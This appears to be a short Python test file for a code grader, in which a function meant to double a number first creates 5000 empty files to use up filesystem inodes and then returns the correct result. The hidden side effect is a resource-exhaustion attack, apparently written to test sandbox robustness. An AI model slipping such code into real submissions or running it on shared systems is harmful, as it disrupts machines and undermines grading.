"""Makes empty files until there is no inode left."""
# ends: raised in double
# at level 1: full marks or timeout in double


def double(x):
    import os
    import time

    now = time.monotonic_ns()
    for number in range(5000):
        os.mknod(f"{now}-{number}")
    return 2 * x
